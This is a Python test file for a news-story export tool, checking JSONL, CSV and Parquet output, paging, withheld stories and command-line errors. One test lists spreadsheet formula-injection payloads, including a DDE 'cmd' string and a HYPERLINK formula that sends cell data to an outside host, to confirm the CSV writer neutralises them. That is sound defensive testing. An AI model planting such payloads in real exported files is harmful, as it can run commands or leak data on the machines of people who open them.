"""Stories out of the index into files, read back by the readers that people use."""

from __future__ import annotations

import csv
import io
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from processors.model.codec import decode
from processors.model.event import Event
from sinks.export import (
    PAGE_STORIES,
    SEPARATOR,
    CsvWriter,
    ExportFormat,
    StoryRow,
    make_row,
    make_writer,
    search_pages,
)
from sinks.search import Query
from streams.cli import cli
from tests.sinks.conftest import Shelf
from tests.sinks.events import at, dispatch, event


async def exported(shelf: Shelf, format_: ExportFormat, query: Query, limit: int | None = None) -> bytes:
    stream = io.BytesIO()
    made = make_writer(format_, stream)
    async for events in search_pages(shelf.search, query, limit):
        made.write(events)
    made.close()
    return stream.getvalue()


async def test_events_come_out_whole_and_newest_first(shelf: Shelf) -> None:
    shelf.put(dispatch(), event("urn:b", minute=5), event("urn:c", language="pt", minute=9))
    lines = (await exported(shelf, "jsonl", Query(language="en"))).splitlines()
    assert [decode(line, Event) for line in lines] == [event("urn:b", minute=5), dispatch()]


async def test_every_page_is_fetched_and_the_limit_holds(shelf: Shelf) -> None:
    shelf.put(*(event(f"urn:{n}", minute=n) for n in range(PAGE_STORIES + 3)))
    assert len((await exported(shelf, "jsonl", Query())).splitlines()) == PAGE_STORIES + 3
    cut = (await exported(shelf, "jsonl", Query(), PAGE_STORIES + 1)).splitlines()
    assert [decode(line, Event).story.uri for line in cut] == [
        f"urn:{n}" for n in range(PAGE_STORIES + 2, 1, -1)
    ]


async def test_killed_and_embargoed_stories_stay_inside(shelf: Shelf) -> None:
    shelf.put(
        event("urn:a"),
        event("urn:k", relation="kill", chain="urn:a", of="urn:a", sequence=2, minute=1),
        event("urn:later", status="withheld", embargo=at(48 * 60)),
    )
    assert await exported(shelf, "jsonl", Query()) == b""
    (line,) = (await exported(shelf, "jsonl", Query(relation="kill"))).splitlines()
    assert decode(line, Event).story.uri == "urn:k"


async def test_a_table_tells_names_places_and_the_dateline(shelf: Shelf) -> None:
    shelf.put(dispatch())
    (told,) = csv.DictReader(io.StringIO((await exported(shelf, "csv", Query())).decode()))
    assert (told["people"], told["dateline_date"], told["source"]) == ("Ines Okafor", "2026-01-30", "NDA")
    assert (float(told["latitude"]), float(told["longitude"])) == (51.4, 5.4)
    assert told["text"] == dispatch().text


async def test_parquet_holds_the_same_rows_with_lists_as_lists(shelf: Shelf) -> None:
    shelf.put(dispatch(), event("urn:b", minute=5))
    table = parquet.read_table(io.BytesIO(await exported(shelf, "parquet", Query())))
    assert table.column_names == [each.name for each in fields(StoryRow)]
    told = [{name: _tuple(value) for name, value in each.items()} for each in table.to_pylist()]
    for column in ("time", "received"):
        assert str(table.schema.field(column).type) == "timestamp[ms, tz=UTC]"
    assert str(table.schema.field("dateline_date").type) == "date32[day]"
    for row in told:
        row |= {
            name: row[name].isoformat(timespec="milliseconds").replace("+00:00", "Z")
            for name in ("time", "received")
        }
        row["dateline_date"] = row["dateline_date"] and row["dateline_date"].isoformat()
    wanted = [make_row(event("urn:b", minute=5)), make_row(dispatch())]
    assert told == [{each.name: getattr(made, each.name) for each in fields(StoryRow)} for made in wanted]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), max_size=4))
def test_any_text_survives_a_table(texts: list[str]) -> None:
    stream = io.BytesIO()
    made = CsvWriter(stream)
    made.write([event(f"urn:{n}", text=text, headline=text) for n, text in enumerate(texts)])
    made.close()
    rows = list(csv.DictReader(io.StringIO(stream.getvalue().decode(), newline="")))
    assert [each["text"].removeprefix("'") for each in rows] == [text.removeprefix("'") for text in texts]


@pytest.mark.parametrize(
    "headline",
    [
        '=HYPERLINK("http://wire.example/?"&A1,"Read")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "\t=1+1", "\r=1+1",
        "＝1+1", "- 2 degrees",
    ],
)  # fmt: skip
def test_no_cell_is_a_formula(headline: str) -> None:
    stream = io.BytesIO()
    made = CsvWriter(stream)
    made.write([event("urn:a", text="a" + headline, headline=headline, names=(headline,))])
    made.close()
    (row,) = csv.DictReader(io.StringIO(stream.getvalue().decode(), newline=""))
    assert (row["headline"], row["people"], row["text"]) == (f"'{headline}", f"'{headline}", f"a{headline}")


def test_a_list_is_one_cell() -> None:
    assert (
        SEPARATOR.join(make_row(event("urn:a", names=("Ines Okafor", "Bo Lind"))).people)
        == "Ines Okafor; Bo Lind"
    )


def test_the_command_writes_a_file_whole_or_not_at_all(shelf: Shelf, tmp_path: Path) -> None:
    shelf.put(event("urn:a"))
    shelf.connection.execute("VACUUM INTO ?", (str(tmp_path / "wiredesk.sqlite"),))
    target = tmp_path / "out.csv"
    told = ["export", "--data", str(tmp_path), "--query", "veldhaven", "--format", "csv", "-o", str(target)]
    done = CliRunner().invoke(cli, told)
    assert (done.exit_code, done.stderr) == (0, "1 stories\n")
    assert len(list(csv.DictReader(io.StringIO(target.read_text("utf-8"))))) == 1
    target.unlink()
    (tmp_path / "wiredesk.sqlite").write_bytes(b"no database, but long enough to be looked at" * 40)
    broken = CliRunner().invoke(cli, told)
    assert "not a database" in str(broken.exception)
    assert not list(tmp_path.glob("*out.csv*"))


@pytest.mark.parametrize(
    ("wrong", "said"),
    [
        (["--data", "nowhere"], "name the folder of `wiredesk run` with --data"),
        (["--since", "yesterday"], "RFC 3339"),
    ],
)
def test_a_wrong_call_says_what_to_do(wrong: list[str], said: str) -> None:
    done = CliRunner().invoke(cli, ["export", *wrong])
    assert done.exit_code != 0
    assert said in f"{done.stderr} {done.exception}"


def _tuple(value: Any) -> Any:
    return tuple(value) if isinstance(value, list) else value


def test_one_format_is_asked_for_at_a_time() -> None:
    told = CliRunner().invoke(
        cli, ["export", "--format", "ninjs-1.6", "--format", "ninjs-2.2", "--format", "rss"]
    )
    assert told.exit_code == 2
    assert "one at a time, not ninjs-1.6, ninjs-2.2, rss" in told.output
